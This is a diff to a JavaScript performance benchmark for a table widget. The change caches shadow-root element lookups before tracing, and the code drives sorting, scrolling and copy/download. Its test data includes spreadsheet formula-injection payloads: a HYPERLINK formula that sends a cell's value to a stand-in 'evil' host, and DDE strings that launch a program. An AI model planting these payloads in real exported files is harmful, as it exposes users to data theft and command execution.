@@ -19,29 +19,41 @@ const table = (n) =>
 const FORMULAS = ['=HYPERLINK("http://evil/?"&A1,"x")', "=cmd\\|' /C calc'!A0", '@SUM(1+1)', "+1+cmd\\|' /C calc'!A0", '&#9;=1+1'];
 const formulas = (n) => `| Note | Amount |\n|---|--:|\n${Array.from({ length: n }, (_, i) => `| ${FORMULAS[i % 5]} | ${-i} |`).join('\n')}\n`;
 
-/** In the page: presses the Orders header; true once the sorted order is shown. */
-const sortPress = () => window.__swBenchRoot().querySelectorAll('th button')[1].click();
-const sortDone = (n) => {
-  const root = window.__swBenchRoot();
-  const first = [...root.querySelector('tbody').children].find((r) => !r.hidden);
-  return root.querySelectorAll('th')[1].getAttribute('aria-sort') === 'ascending' && first?.cells[0].textContent === `Region ${n - 1}`;
+// The elements the steps poll are found once, before the trace: `querySelectorAll` over a shadow
+// root holding 130,000 rows walks every node (tens of ms), which would be measured as the
+// widget's own task.
+const findElements = () => {
+  const root = document.querySelector('[data-service-widget]').shadowRoot;
+  const th = root.querySelector('th:nth-child(2)');
+  const body = root.querySelector('tbody');
+  window.__swBench = { root, th, body, box: root.querySelector('.table-scroll'), actions: root.querySelector('.table-block .actions') };
 };
-const showAllPress = () => [...window.__swBenchRoot().querySelectorAll('.actions button')].find((b) => /^Show all/.test(b.textContent)).click();
+
+/** In the page: presses the Orders header; true once the sorted order is shown. */
+const sortPress = () => window.__swBench.th.querySelector('button').click();
+const sortDone = (n) => {
+  const { th, body } = window.__swBench;
+  if (th.getAttribute('aria-sort') !== 'ascending') return false;
+  let first = body.firstElementChild;
+  while (first?.hidden) first = first.nextElementSibling;
+  return first?.cells[0].textContent === `Region ${n - 1}`;
+};
+const showAllPress = () => [...window.__swBench.actions.children].find((b) => /^Show all/.test(b.textContent)).click();
 /** In the page: scrolls the table to `f` of its height; true once a row is shown in the box's middle. */
 const scrolledTo = (f) => {
-  const box = window.__swBenchRoot().querySelector('.table-scroll');
+  const { box, root } = window.__swBench;
   if (box.dataset.benchAt !== String(f)) (box.scrollTop = (box.scrollHeight - box.clientHeight) * f), (box.dataset.benchAt = String(f));
   const r = box.getBoundingClientRect();
-  return !!window.__swBenchRoot().elementFromPoint(r.left + 20, r.top + r.height / 2)?.closest('tbody tr');
+  return !!root.elementFromPoint(r.left + 20, r.top + r.height / 2)?.closest('tbody tr');
 };
 const copyPress = () => {
   window.__swBenchCopied = null;
   navigator.clipboard.writeText = async (t) => void (window.__swBenchCopied = t);
   URL.createObjectURL = (b) => ((window.__swBenchBlob = b), 'blob:bench');
   HTMLAnchorElement.prototype.click = () => undefined;
-  const root = window.__swBenchRoot();
-  root.querySelector('[part~="copy-table-button"]').click();
-  root.querySelector('[part~="download-table-button"]').click();
+  const { actions } = window.__swBench;
+  actions.querySelector('[part~="copy-table-button"]').click();
+  actions.querySelector('[part~="download-table-button"]').click();
 };
 const copyDone = () => typeof window.__swBenchCopied === 'string' && !!window.__swBenchBlob;
 
@@ -72,6 +84,7 @@ export async function measureTableShape(h, service, pageUrl, pageInit, steps) {
     await shadow.locator('[part~="history-button"]').click();
     await shadow.locator('[part~="history-item"]').first().click();
     await page.waitForFunction(() => !!window.__swBenchRoot().querySelector('[part~="copy-table-button"]'), null, { timeout: 600_000, polling: 200 });
+    await page.evaluate(findElements);
     await page.waitForTimeout(500);
     const cdp = await context.newCDPSession(page);
     const trace = await startTrace(cdp);
